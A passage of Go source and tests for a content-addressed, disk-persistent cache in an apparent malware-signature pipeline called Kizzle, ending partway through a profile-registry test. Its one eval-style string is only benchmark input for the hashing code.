		t.Fatalf("nil cache stats = %+v", st)
	}
	c.ResetStats()
}

func TestCacheConcurrent(t *testing.T) {
	c := New(1 << 20)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				s := fmt.Sprintf("doc-%d", i%50)
				k := KeyOf(Kind(w%3), s)
				if v, ok := c.Get(k, s); ok {
					if v.(string) != s {
						t.Errorf("corrupted value %v for %s", v, s)
						return
					}
				} else {
					c.Put(k, s, s)
				}
			}
		}(w)
	}
	wg.Wait()
}

func BenchmarkDigest(b *testing.B) {
	s := strings.Repeat("var payload = decode(buffer.split(delim)); eval(payload); ", 200)
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Digest(s)
	}
}
