package contentcache

import (
	"sync"
	"sync/atomic"
)

// Kind namespaces cache entries so one cache instance can hold several
// derived-artifact types (raw-document symbols, unpack results, winnow
// fingerprints) without key collisions.
type Kind uint8

// Key addresses one cache entry: the artifact kind plus the digest and
// length of the content the artifact was derived from.
type Key struct {
	Kind   Kind
	Digest uint64
	Len    int
}

// KeyOf builds the cache key for (kind, content).
func KeyOf(kind Kind, content string) Key {
	return Key{Kind: kind, Digest: Digest(content), Len: len(content)}
}

const shardCount = 16

type entry struct {
	content string // verification copy: hits must match exactly
	value   any
	cost    int // accounted bytes: content plus the caller's value estimate
}

type shard struct {
	mu    sync.Mutex
	m     map[Key]entry
	order []Key // FIFO eviction order
	bytes int
}

// Cache is a bounded, sharded, verified content-addressed store. A nil
// *Cache is valid and behaves as an always-miss cache, so call sites can
// thread an optional cache without branching.
type Cache struct {
	shards       [shardCount]shard
	maxShardSize int
	hits, misses atomic.Int64
}

// New builds a cache bounded by roughly maxBytes of accounted memory:
// each entry is charged its verification content plus the value-size
// estimate the caller passes to PutSized (Put charges content only, for
// values that are small relative to their content). maxBytes <= 0 selects
// the 64 MiB default — one provider-scale day of unique content at the
// paper's document sizes.
func New(maxBytes int) *Cache {
	if maxBytes <= 0 {
		maxBytes = 64 << 20
	}
	c := &Cache{maxShardSize: maxBytes / shardCount}
	for i := range c.shards {
		c.shards[i].m = make(map[Key]entry)
	}
	return c
}

// MaxBytes reports the cache's approximate byte budget (the value New was
// built with, rounded down to a multiple of the shard count).
func (c *Cache) MaxBytes() int {
	if c == nil {
		return 0
	}
	return c.maxShardSize * shardCount
}

func (c *Cache) shard(k Key) *shard {
	return &c.shards[(k.Digest^uint64(k.Kind))%shardCount]
}

// Get returns the value cached for (key, content). The stored content is
// compared against the probe: a digest collision reads as a miss.
func (c *Cache) Get(key Key, content string) (any, bool) {
	if c == nil {
		return nil, false
	}
	s := c.shard(key)
	s.mu.Lock()
	e, ok := s.m[key]
	s.mu.Unlock()
	if !ok || e.content != content {
		c.misses.Add(1)
		return nil, false
	}
	c.hits.Add(1)
	return e.value, true
}

// Put stores value for (key, content), charging only the content against
// the byte budget — use it when the value is small relative to its
// content (symbol sequences, histograms, small structs).
func (c *Cache) Put(key Key, content string, value any) {
	c.PutSized(key, content, value, 0)
}

// PutSized stores value for (key, content), charging content plus
// valueBytes (the caller's estimate of the value's retained size) against
// the byte budget and evicting oldest entries in the shard when over it.
// Values that dwarf their key content — token streams addressed by a
// short digest string, for instance — must pass an estimate, or the cache
// would hold far more memory than its budget admits. Re-putting an
// existing key replaces its value and re-accounts its cost.
func (c *Cache) PutSized(key Key, content string, value any, valueBytes int) {
	if c == nil {
		return
	}
	cost := len(content) + valueBytes
	s := c.shard(key)
	s.mu.Lock()
	defer s.mu.Unlock()
	if old, ok := s.m[key]; ok {
		s.bytes += cost - old.cost
		s.m[key] = entry{content: content, value: value, cost: cost}
		return
	}
	for s.bytes+cost > c.maxShardSize && len(s.order) > 0 {
		oldest := s.order[0]
		s.order = s.order[1:]
		if old, ok := s.m[oldest]; ok {
			s.bytes -= old.cost
			delete(s.m, oldest)
		}
	}
	s.m[key] = entry{content: content, value: value, cost: cost}
	s.order = append(s.order, key)
	s.bytes += cost
}

// Stats is a point-in-time cache accounting snapshot.
type Stats struct {
	Hits, Misses int64
	Entries      int
	Bytes        int
}

// HitRate is hits / lookups, 0 when no lookups happened.
func (s Stats) HitRate() float64 {
	if s.Hits+s.Misses == 0 {
		return 0
	}
	return float64(s.Hits) / float64(s.Hits+s.Misses)
}

// Stats snapshots counters and occupancy.
func (c *Cache) Stats() Stats {
	if c == nil {
		return Stats{}
	}
	st := Stats{Hits: c.hits.Load(), Misses: c.misses.Load()}
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		st.Entries += len(s.m)
		st.Bytes += s.bytes
		s.mu.Unlock()
	}
	return st
}

// ResetStats zeroes the hit/miss counters (entries stay), so per-run hit
// rates can be measured against a warm cache.
func (c *Cache) ResetStats() {
	if c == nil {
		return
	}
	c.hits.Store(0)
	c.misses.Store(0)
}
