package contentcache

// xxhash-style 64-bit digest (XXH64, seed 0). Implemented locally so the
// cache has no external dependency; the algorithm is the public-domain
// XXH64 round structure, processing 32 bytes per lane step, which digests
// a document one to two orders of magnitude faster than lexing it — the
// property that makes content-addressed short-circuiting profitable.

const (
	prime1 uint64 = 11400714785074694791
	prime2 uint64 = 14029467366897019727
	prime3 uint64 = 1609587929392839161
	prime4 uint64 = 9650029242287828579
	prime5 uint64 = 2870177450012600261
)

// Digest returns the 64-bit content digest of s.
func Digest(s string) uint64 {
	n := len(s)
	var h uint64
	i := 0
	if n >= 32 {
		var v1, v2, v3, v4 uint64 = prime1, prime2, 0, 0
		v1 += prime2
		v4 -= prime1
		for ; i+32 <= n; i += 32 {
			v1 = round(v1, u64(s, i))
			v2 = round(v2, u64(s, i+8))
			v3 = round(v3, u64(s, i+16))
			v4 = round(v4, u64(s, i+24))
		}
		h = rol(v1, 1) + rol(v2, 7) + rol(v3, 12) + rol(v4, 18)
		h = mergeRound(h, v1)
		h = mergeRound(h, v2)
		h = mergeRound(h, v3)
		h = mergeRound(h, v4)
	} else {
		h = prime5
	}
	h += uint64(n)
	for ; i+8 <= n; i += 8 {
		h ^= round(0, u64(s, i))
		h = rol(h, 27)*prime1 + prime4
	}
	for ; i+4 <= n; i += 4 {
		h ^= uint64(u32(s, i)) * prime1
		h = rol(h, 23)*prime2 + prime3
	}
	for ; i < n; i++ {
		h ^= uint64(s[i]) * prime5
		h = rol(h, 11) * prime1
	}
	h ^= h >> 33
	h *= prime2
	h ^= h >> 29
	h *= prime3
	h ^= h >> 32
	return h
}

func round(acc, input uint64) uint64 {
	acc += input * prime2
	return rol(acc, 31) * prime1
}

func mergeRound(h, v uint64) uint64 {
	h ^= round(0, v)
	return h*prime1 + prime4
}

func rol(x uint64, r uint) uint64 { return x<<r | x>>(64-r) }

// u64 reads 8 little-endian bytes; the byte-or form compiles to a single
// load on little-endian targets.
func u64(s string, i int) uint64 {
	_ = s[i+7]
	return uint64(s[i]) | uint64(s[i+1])<<8 | uint64(s[i+2])<<16 | uint64(s[i+3])<<24 |
		uint64(s[i+4])<<32 | uint64(s[i+5])<<40 | uint64(s[i+6])<<48 | uint64(s[i+7])<<56
}

func u32(s string, i int) uint32 {
	_ = s[i+3]
	return uint32(s[i]) | uint32(s[i+1])<<8 | uint32(s[i+2])<<16 | uint32(s[i+3])<<24
}
