package contentcache

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"sort"
)

// This file implements the disk-backed persistent store: a cache snapshot
// is written as a directory of checksummed segment files and reloaded on
// the next start, so a restarted pipeline keeps its warm-day economics
// (the paper's day N+1 only pays for novel content — but only if the
// day-N artifacts survive the process).
//
// Layout: dir/seg-NNNN.kcc, each segment holding
//
//	magic "KZC1" | entry* | xxh64(entry bytes)
//
// and each entry
//
//	kind (1B) | key digest (8B LE) | key len (uvarint) |
//	value-cost estimate (uvarint) | content len (uvarint) | content |
//	value len (uvarint) | encoded value
//
// Every layer re-verifies on load: a segment whose checksum does not match
// is skipped whole (a torn write loses one segment, not the store), and an
// entry whose content no longer digests to its key is skipped individually.
// Values are encoded through per-Kind Codecs supplied by the caller — the
// cache itself stores opaque `any` values and cannot serialize them; the
// pipeline package owns the codecs for its artifact kinds.

// Codec serializes one Kind's values for the disk store. An Encode error
// excludes that value from persistence without failing the save (it is
// counted in SaveStats.Skipped).
type Codec interface {
	Encode(value any) ([]byte, error)
	Decode(data []byte) (any, error)
}

// Codecs maps each persistable Kind to its value codec. Kinds absent from
// the map are silently skipped on save and on load, so callers persist
// exactly the artifact types they know how to rebuild.
type Codecs map[Kind]Codec

const (
	segMagic       = "KZC1"
	segTargetBytes = 4 << 20 // split segments so corruption loses at most ~4 MiB
	segPattern     = "seg-*.kcc"
)

// SaveStats reports what a Save wrote.
type SaveStats struct {
	// Entries is the number of entries persisted.
	Entries int
	// Skipped counts entries without a codec for their kind (or whose
	// codec declined them).
	Skipped int
	// Segments is the number of segment files written.
	Segments int
	// Bytes is the total size of the written segments.
	Bytes int64
}

// LoadStats reports what a Load recovered.
type LoadStats struct {
	// Entries is the number of entries restored into the cache.
	Entries int
	// Segments is the number of segment files read successfully.
	Segments int
	// CorruptSegments counts segments skipped for checksum mismatch or
	// truncation.
	CorruptSegments int
	// SkippedEntries counts entries dropped individually: no codec for
	// the kind, codec decode failure, or content that no longer matches
	// its key digest.
	SkippedEntries int
}

// Save snapshots the cache's current entries into dir as checksummed
// segment files, replacing any previous snapshot atomically enough for a
// crash at any point to leave a readable store: segments are written to
// temporary names, renamed over their predecessors (an atomic per-file
// replace), and only then are stale extra segments removed — a crash
// mid-commit can mix generations, which the per-segment checksums and
// per-entry verification make safe, merely staler. Only kinds present in
// codecs are persisted.
func (c *Cache) Save(dir string, codecs Codecs) (SaveStats, error) {
	var stats SaveStats
	if c == nil {
		return stats, nil
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return stats, fmt.Errorf("contentcache: save: %w", err)
	}
	// Sweep temporaries a previously aborted Save may have left behind.
	if stale, err := filepath.Glob(filepath.Join(dir, segPattern+".tmp")); err == nil {
		for _, f := range stale {
			os.Remove(f)
		}
	}

	var (
		tmpFiles []string
		buf      []byte
		segIdx   int
	)
	flush := func() error {
		if len(buf) == 0 {
			return nil
		}
		name := filepath.Join(dir, fmt.Sprintf("seg-%04d.kcc.tmp", segIdx))
		segIdx++
		var out []byte
		out = append(out, segMagic...)
		out = append(out, buf...)
		out = binary.LittleEndian.AppendUint64(out, Digest(string(buf)))
		if err := os.WriteFile(name, out, 0o644); err != nil {
			return err
		}
		tmpFiles = append(tmpFiles, name)
		stats.Segments++
		stats.Bytes += int64(len(out))
		buf = buf[:0]
		return nil
	}

	// Walk shards in index order and each shard in FIFO order, so the
	// reload preserves eviction age ordering.
	for si := range c.shards {
		s := &c.shards[si]
		s.mu.Lock()
		type snap struct {
			key Key
			e   entry
		}
		entries := make([]snap, 0, len(s.order))
		for _, k := range s.order {
			if e, ok := s.m[k]; ok {
				entries = append(entries, snap{key: k, e: e})
			}
		}
		s.mu.Unlock()
		for _, sn := range entries {
			codec, ok := codecs[sn.key.Kind]
			if !ok {
				stats.Skipped++
				continue
			}
			encoded, err := codec.Encode(sn.e.value)
			if err != nil {
				stats.Skipped++
				continue
			}
			buf = append(buf, byte(sn.key.Kind))
			buf = binary.LittleEndian.AppendUint64(buf, sn.key.Digest)
			buf = binary.AppendUvarint(buf, uint64(sn.key.Len))
			valueCost := sn.e.cost - len(sn.e.content)
			if valueCost < 0 {
				valueCost = 0
			}
			buf = binary.AppendUvarint(buf, uint64(valueCost))
			buf = binary.AppendUvarint(buf, uint64(len(sn.e.content)))
			buf = append(buf, sn.e.content...)
			buf = binary.AppendUvarint(buf, uint64(len(encoded)))
			buf = append(buf, encoded...)
			stats.Entries++
			if len(buf) >= segTargetBytes {
				if err := flush(); err != nil {
					return stats, fmt.Errorf("contentcache: save: %w", err)
				}
			}
		}
	}
	if err := flush(); err != nil {
		return stats, fmt.Errorf("contentcache: save: %w", err)
	}

	// Commit: rename the new segments into place first — os.Rename
	// atomically replaces an old segment of the same index, so at every
	// instant each seg-NNNN.kcc is either the complete old or the
	// complete new generation — then drop old segments beyond the new
	// count. A crash mid-commit leaves a readable store (possibly mixing
	// generations; per-segment checksums and per-entry verification make
	// a mixed read safe, merely staler).
	old, err := filepath.Glob(filepath.Join(dir, segPattern))
	if err != nil {
		return stats, fmt.Errorf("contentcache: save: %w", err)
	}
	committed := make(map[string]bool, len(tmpFiles))
	for _, tmp := range tmpFiles {
		final := tmp[:len(tmp)-len(".tmp")]
		if err := os.Rename(tmp, final); err != nil {
			return stats, fmt.Errorf("contentcache: save: %w", err)
		}
		committed[final] = true
	}
	for _, f := range old {
		if committed[f] {
			continue
		}
		if err := os.Remove(f); err != nil {
			return stats, fmt.Errorf("contentcache: save: %w", err)
		}
	}
	return stats, nil
}

// Load builds a cache bounded by maxBytes (0 selects the default budget,
// as in New) and restores a snapshot previously written by Save into it.
// Corrupt segments and stale entries are skipped, never fatal: a store
// that fails verification degrades to a cold cache, exactly as if the
// snapshot had not existed. A missing directory is an empty snapshot.
func Load(dir string, codecs Codecs, maxBytes int) (*Cache, LoadStats, error) {
	c := New(maxBytes)
	stats, err := LoadInto(c, dir, codecs)
	return c, stats, err
}

// LoadInto restores a snapshot into an existing cache. Entries are applied
// in their saved order through the normal PutSized path, so the byte
// budget holds: a snapshot larger than the budget loads with oldest
// entries evicted, the same decision a live cache would have made.
func LoadInto(c *Cache, dir string, codecs Codecs) (LoadStats, error) {
	var stats LoadStats
	files, err := filepath.Glob(filepath.Join(dir, segPattern))
	if err != nil {
		return stats, fmt.Errorf("contentcache: load: %w", err)
	}
	sort.Strings(files)
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			stats.CorruptSegments++
			continue
		}
		if !validSegment(raw) {
			stats.CorruptSegments++
			continue
		}
		stats.Segments++
		loadSegment(c, raw[len(segMagic):len(raw)-8], codecs, &stats)
	}
	return stats, nil
}

// validSegment checks magic, minimum size, and the trailing checksum.
func validSegment(raw []byte) bool {
	if len(raw) < len(segMagic)+8 || string(raw[:len(segMagic)]) != segMagic {
		return false
	}
	payload := raw[len(segMagic) : len(raw)-8]
	want := binary.LittleEndian.Uint64(raw[len(raw)-8:])
	return Digest(string(payload)) == want
}

// loadSegment decodes one verified segment payload. Individual entries can
// still be skipped (unknown kind, codec failure, digest mismatch); a
// malformed entry ends the segment early, since entry boundaries cannot be
// recovered past it. The segment checksum makes that case unreachable
// outside memory corruption, but the parser stays defensive.
func loadSegment(c *Cache, payload []byte, codecs Codecs, stats *LoadStats) {
	for len(payload) > 0 {
		if len(payload) < 9 {
			stats.SkippedEntries++
			return
		}
		kind := Kind(payload[0])
		digest := binary.LittleEndian.Uint64(payload[1:9])
		payload = payload[9:]
		keyLen, n := binary.Uvarint(payload)
		if n <= 0 {
			stats.SkippedEntries++
			return
		}
		payload = payload[n:]
		valueCost, n := binary.Uvarint(payload)
		if n <= 0 {
			stats.SkippedEntries++
			return
		}
		payload = payload[n:]
		contentLen, n := binary.Uvarint(payload)
		if n <= 0 || uint64(len(payload)-n) < contentLen {
			stats.SkippedEntries++
			return
		}
		content := string(payload[n : n+int(contentLen)])
		payload = payload[n+int(contentLen):]
		valueLen, n := binary.Uvarint(payload)
		if n <= 0 || uint64(len(payload)-n) < valueLen {
			stats.SkippedEntries++
			return
		}
		encoded := payload[n : n+int(valueLen)]
		payload = payload[n+int(valueLen):]

		codec, ok := codecs[kind]
		if !ok {
			stats.SkippedEntries++
			continue
		}
		// Re-verify the key against the content: an entry from a snapshot
		// written by a different digest implementation (or flipped bits
		// that survived the checksum) must not poison the cache.
		if uint64(len(content)) != keyLen || Digest(content) != digest {
			stats.SkippedEntries++
			continue
		}
		value, err := codec.Decode(encoded)
		if err != nil {
			stats.SkippedEntries++
			continue
		}
		c.PutSized(Key{Kind: kind, Digest: digest, Len: int(keyLen)}, content, value, int(valueCost))
		stats.Entries++
	}
}
