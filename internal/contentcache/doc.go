// Package contentcache provides the content-addressed day-over-day cache
// behind Kizzle's streaming pipeline. The paper's economic argument is that
// provider-scale telemetry re-observes most content daily (Figure 11: RIG
// aside, families reuse most of their body day over day); keying derived
// artifacts — abstract token sequences, unpack results, winnow fingerprints
// — by a digest of the content that produced them lets day N+1 pay only
// for content it has not seen before.
//
// Entries are verified: every hit compares the stored content against the
// probe before returning, so a 64-bit digest collision degrades to a miss,
// never to a wrong answer. (Callers that key by a composite hash identity
// instead of real content — the pipeline's signature and pair-verdict
// stages — get identity at the strength of the hashes in that key, not
// byte verification; they document that trade at the call site.) The
// cache is sharded for concurrent access from pipeline workers and
// bounded by a byte budget with FIFO eviction (oldest content first —
// recent variants matter most for tracking drift).
//
// # Persistence
//
// Save snapshots a cache into a directory of checksummed segment files;
// Load (or LoadInto) restores one, so a restarted pipeline, shard worker,
// or evaluation run keeps its warm-day hit rate instead of re-deriving a
// day's worth of artifacts. Values are serialized through per-Kind Codecs
// supplied by the owner of the artifact types (pipeline.CacheCodecs for
// the pipeline's kinds). Every layer is re-verified on load — segment
// checksums, per-entry digests — and anything that fails is skipped, not
// fatal: a damaged snapshot degrades to a colder cache, never to wrong
// answers. Loading applies entries through the normal budget accounting,
// so a snapshot larger than the target cache simply evicts oldest-first.
package contentcache
