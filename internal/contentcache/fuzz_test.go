package contentcache

import (
	"os"
	"path/filepath"
	"testing"
)

// fuzzCodec is a trivial string codec so decoded entries exercise the
// full load path (the disk loader only hands values to codecs it has).
type fuzzCodec struct{}

func (fuzzCodec) Encode(v any) ([]byte, error) { return []byte(v.(string)), nil }
func (fuzzCodec) Decode(d []byte) (any, error) { return string(d), nil }

// FuzzLoadSegment feeds arbitrary bytes to the disk-segment loader as a
// snapshot segment file. The loader reads persisted state that may be
// truncated, bit-flipped, or adversarial; any input must either load
// cleanly (within the byte budget) or be skipped — never panic, never
// blow the budget, never produce an entry whose content fails digest
// verification.
func FuzzLoadSegment(f *testing.F) {
	// Seeds: a genuine snapshot segment, its truncations, and junk.
	dir := f.TempDir()
	c := New(1 << 20)
	c.Put(KeyOf(1, "hello"), "hello", "world")
	c.Put(KeyOf(2, "abc"), "abc", "xyz")
	if _, err := c.Save(dir, Codecs{1: fuzzCodec{}, 2: fuzzCodec{}}); err != nil {
		f.Fatal(err)
	}
	segs, _ := filepath.Glob(filepath.Join(dir, segPattern))
	for _, seg := range segs {
		raw, err := os.ReadFile(seg)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw)
		f.Add(raw[:len(raw)/2])
		f.Add(raw[4:])
	}
	f.Add([]byte("KZC1"))
	f.Add([]byte("KZC1garbage-with-a-bad-checksum-tail"))
	f.Add([]byte{})

	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<16 {
			t.Skip("oversized fuzz input")
		}
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "seg-0000.kcc"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		const budget = 1 << 12
		cache, stats, err := Load(dir, Codecs{1: fuzzCodec{}, 2: fuzzCodec{}}, budget)
		if err != nil {
			t.Fatalf("Load must degrade, not fail: %v", err)
		}
		st := cache.Stats()
		if st.Bytes > budget {
			t.Fatalf("loaded %d bytes over the %d budget", st.Bytes, budget)
		}
		if stats.Entries < 0 || st.Entries > stats.Entries {
			t.Fatalf("inconsistent entry accounting: cache %d, loader %d", st.Entries, stats.Entries)
		}
	})
}
