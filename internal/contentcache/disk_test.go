package contentcache

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// stringCodec persists plain string values — enough to exercise the store
// machinery without pipeline types (the pipeline package owns and tests
// the real artifact codecs).
type stringCodec struct{}

func (stringCodec) Encode(value any) ([]byte, error) {
	s, ok := value.(string)
	if !ok {
		return nil, fmt.Errorf("not a string: %T", value)
	}
	return []byte(s), nil
}

func (stringCodec) Decode(data []byte) (any, error) { return string(data), nil }

const testKind Kind = 1

func testCodecs() Codecs { return Codecs{testKind: stringCodec{}} }

func fill(c *Cache, n int, prefix string) {
	for i := 0; i < n; i++ {
		content := fmt.Sprintf("%s-content-%04d", prefix, i)
		c.PutSized(KeyOf(testKind, content), content, "value-of-"+content, 16)
	}
}

func TestDiskRoundTrip(t *testing.T) {
	dir := t.TempDir()
	c := New(1 << 20)
	fill(c, 100, "rt")

	saved, err := c.Save(dir, testCodecs())
	if err != nil {
		t.Fatal(err)
	}
	if saved.Entries != 100 || saved.Skipped != 0 || saved.Segments == 0 {
		t.Fatalf("save stats: %+v", saved)
	}

	loaded, stats, err := Load(dir, testCodecs(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Entries != 100 || stats.CorruptSegments != 0 || stats.SkippedEntries != 0 {
		t.Fatalf("load stats: %+v", stats)
	}
	for i := 0; i < 100; i++ {
		content := fmt.Sprintf("rt-content-%04d", i)
		v, ok := loaded.Get(KeyOf(testKind, content), content)
		if !ok {
			t.Fatalf("entry %d missing after reload", i)
		}
		if v.(string) != "value-of-"+content {
			t.Fatalf("entry %d: wrong value %q", i, v)
		}
	}
	// Cost accounting survives the round trip (content + 16 per entry).
	if got, want := loaded.Stats().Bytes, c.Stats().Bytes; got != want {
		t.Fatalf("reloaded accounting %d bytes, saved cache had %d", got, want)
	}
}

// TestDiskKindsWithoutCodec pins that unknown kinds are skipped — not
// persisted, and not fatal when a snapshot carries kinds the loader no
// longer knows.
func TestDiskKindsWithoutCodec(t *testing.T) {
	dir := t.TempDir()
	c := New(1 << 20)
	fill(c, 10, "known")
	const otherKind Kind = 9
	c.Put(KeyOf(otherKind, "mystery"), "mystery", "opaque")

	saved, err := c.Save(dir, testCodecs())
	if err != nil {
		t.Fatal(err)
	}
	if saved.Entries != 10 || saved.Skipped != 1 {
		t.Fatalf("save stats: %+v", saved)
	}

	// A loader with no codecs at all skips everything, harmlessly.
	empty, stats, err := Load(dir, Codecs{}, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Entries != 0 || stats.SkippedEntries != 10 {
		t.Fatalf("codec-less load stats: %+v", stats)
	}
	if st := empty.Stats(); st.Entries != 0 {
		t.Fatalf("codec-less load populated %d entries", st.Entries)
	}
}

// TestDiskCorruptSegmentRecovery flips bytes in one segment and truncates
// another: both must be skipped whole while intact segments still load.
func TestDiskCorruptSegmentRecovery(t *testing.T) {
	dir := t.TempDir()
	c := New(64 << 20)
	// Big values force several segments: ~1 MiB per entry, 4 MiB target.
	big := strings.Repeat("x", 1<<20)
	const entries = 12
	for i := 0; i < entries; i++ {
		content := fmt.Sprintf("corrupt-%02d", i)
		c.PutSized(KeyOf(testKind, content), content, big, 0)
	}
	saved, err := c.Save(dir, testCodecs())
	if err != nil {
		t.Fatal(err)
	}
	if saved.Segments < 3 {
		t.Fatalf("need ≥3 segments to corrupt two, got %d", saved.Segments)
	}

	files, err := filepath.Glob(filepath.Join(dir, "seg-*.kcc"))
	if err != nil || len(files) != saved.Segments {
		t.Fatalf("glob: %v, %d files", err, len(files))
	}
	// Flip one byte mid-payload in the first segment.
	raw, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)/2] ^= 0xFF
	if err := os.WriteFile(files[0], raw, 0o644); err != nil {
		t.Fatal(err)
	}
	// Truncate the second (torn write).
	raw2, err := os.ReadFile(files[1])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(files[1], raw2[:len(raw2)/3], 0o644); err != nil {
		t.Fatal(err)
	}

	loaded, stats, err := Load(dir, testCodecs(), 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	if stats.CorruptSegments != 2 {
		t.Fatalf("corrupt segments = %d, want 2", stats.CorruptSegments)
	}
	if stats.Segments != saved.Segments-2 {
		t.Fatalf("intact segments = %d, want %d", stats.Segments, saved.Segments-2)
	}
	if stats.Entries == 0 {
		t.Fatal("no entries recovered from intact segments")
	}
	if stats.Entries+stats.SkippedEntries > entries {
		t.Fatalf("recovered %d + skipped %d > %d saved", stats.Entries, stats.SkippedEntries, entries)
	}
	// Every recovered entry must verify: content matches its key.
	hits := 0
	for i := 0; i < entries; i++ {
		content := fmt.Sprintf("corrupt-%02d", i)
		if v, ok := loaded.Get(KeyOf(testKind, content), content); ok {
			hits++
			if v.(string) != big {
				t.Fatalf("entry %d: corrupted value survived verification", i)
			}
		}
	}
	if hits != stats.Entries {
		t.Fatalf("probe hits %d != loaded entries %d", hits, stats.Entries)
	}
}

// TestDiskBudgetEvictionOnLoad loads a large snapshot into a small cache:
// the budget must hold, with older entries evicted in favor of newer ones
// (the same FIFO decision a live cache makes).
func TestDiskBudgetEvictionOnLoad(t *testing.T) {
	dir := t.TempDir()
	big := New(8 << 20)
	const entries = 512
	val := strings.Repeat("v", 8<<10)
	for i := 0; i < entries; i++ {
		content := fmt.Sprintf("budget-%04d", i)
		big.PutSized(KeyOf(testKind, content), content, val, len(val))
	}
	if _, err := big.Save(dir, testCodecs()); err != nil {
		t.Fatal(err)
	}

	const budget = 1 << 20
	small, stats, err := Load(dir, testCodecs(), budget)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Entries != entries {
		t.Fatalf("applied %d entries, want %d (eviction happens inside the cache)", stats.Entries, entries)
	}
	st := small.Stats()
	if st.Bytes > budget {
		t.Fatalf("loaded cache holds %d bytes over the %d budget", st.Bytes, budget)
	}
	if st.Entries == 0 || st.Entries >= entries {
		t.Fatalf("loaded cache holds %d entries, want a strict subset of %d", st.Entries, entries)
	}
}

// TestDiskSaveReplacesSnapshot pins that a second, smaller save removes
// the first save's extra segments — a reload must never mix generations.
func TestDiskSaveReplacesSnapshot(t *testing.T) {
	dir := t.TempDir()
	big := New(64 << 20)
	filler := strings.Repeat("f", 1<<20)
	for i := 0; i < 10; i++ {
		content := fmt.Sprintf("gen1-%02d", i)
		big.PutSized(KeyOf(testKind, content), content, filler, 0)
	}
	if _, err := big.Save(dir, testCodecs()); err != nil {
		t.Fatal(err)
	}

	small := New(1 << 20)
	fill(small, 5, "gen2")
	saved, err := small.Save(dir, testCodecs())
	if err != nil {
		t.Fatal(err)
	}

	files, _ := filepath.Glob(filepath.Join(dir, "seg-*.kcc"))
	if len(files) != saved.Segments {
		t.Fatalf("%d segment files on disk after re-save, want %d", len(files), saved.Segments)
	}
	loaded, stats, err := Load(dir, testCodecs(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Entries != 5 {
		t.Fatalf("reload found %d entries, want the 5 from generation 2", stats.Entries)
	}
	if _, ok := loaded.Get(KeyOf(testKind, "gen1-00"), "gen1-00"); ok {
		t.Fatal("generation-1 entry survived a replacing save")
	}
}

// TestDiskLoadMissingDir pins that a first start (no snapshot yet) is a
// clean cold cache, not an error.
func TestDiskLoadMissingDir(t *testing.T) {
	c, stats, err := Load(filepath.Join(t.TempDir(), "never-created"), testCodecs(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Entries != 0 || stats.Segments != 0 || stats.CorruptSegments != 0 {
		t.Fatalf("stats from missing dir: %+v", stats)
	}
	if c.Stats().Entries != 0 {
		t.Fatal("cache not empty")
	}
}
