package ingest

import (
	"strings"
	"testing"

	"kizzle/internal/jstoken"
)

// badProfile is a minimal Profile for registry-misuse tests; only ID is
// ever called before Register panics.
type badProfile struct{ id string }

func (p badProfile) ID() string        { return p.id }
func (badProfile) SymbolSpace() int    { return 1 }
func (badProfile) KindOffset() int     { return 0 }
func (badProfile) NewScratch() Scratch { return nil }
func (badProfile) Lex(string) []jstoken.Token {
	return nil
}
func (badProfile) LexDocument(string) []jstoken.Token { return nil }
func (badProfile) ExtractScripts(doc string) string   { return doc }
func (badProfile) Unpack(string) (Result, error)      { return Result{}, nil }
func (badProfile) SymbolFor(jstoken.Class, string) jstoken.Symbol {
	return jstoken.SymIdentifier
}

func mustPanic(t *testing.T, want string, fn func()) {
	t.Helper()
	defer func() {
		r := recover()
		if r == nil {
			t.Fatalf("no panic, want one containing %q", want)
		}
		if msg, ok := r.(string); !ok || !strings.Contains(msg, want) {
			t.Fatalf("panic %v does not mention %q", r, want)
		}
	}()
	fn()
}

// TestRegisterRejectsBadIDs: registration is init-time wiring, so empty,
// slash-bearing, and duplicate IDs are programming errors that panic.
func TestRegisterRejectsBadIDs(t *testing.T) {
	mustPanic(t, "empty profile id", func() { Register(badProfile{id: ""}) })
	mustPanic(t, "contains '/'", func() { Register(badProfile{id: "web/kit"}) })
	mustPanic(t, "duplicate profile id", func() { Register(badProfile{id: "js"}) })
}

// TestRegistryAndDefault pins the registry contract the compiler's option
// layer builds on: both built-in profiles resolve, IDs() is sorted, the
// default is js, and unknown IDs miss cleanly.
func TestRegistryAndDefault(t *testing.T) {
	if Default().ID() != "js" {
		t.Fatalf("default profile = %q, want js", Default().ID())
	}
	ids := IDs()
	for i := 1; i < len(ids); i++ {
		if ids[i-1] >= ids[i] {
			t.Fatalf("IDs() not sorted: %v", ids)
		}
	}
	for _, id := range []string{"js", "webkit"} {
		p, ok := Lookup(id)
		if !ok || p.ID() != id {
			t.Fatalf("Lookup(%q): ok=%v", id, ok)
		}
	}
	if _, ok := Lookup("cobol"); ok {
		t.Fatal("unknown profile id resolved")
	}
	// Profiles must never share a cache-kind band: offsets are pairwise
	// distinct so persisted entries cannot alias across workloads.
	offsets := make(map[int]string)
	for _, id := range IDs() {
		p, _ := Lookup(id)
		if prev, clash := offsets[p.KindOffset()]; clash {
			t.Fatalf("profiles %q and %q share KindOffset %d", prev, id, p.KindOffset())
		}
		offsets[p.KindOffset()] = id
	}
}

// TestProfileOf maps family names to workloads: a registered namespace
// selects its profile, everything else — bare names, unknown namespaces,
// nested paths under unknown prefixes — falls back to the default.
func TestProfileOf(t *testing.T) {
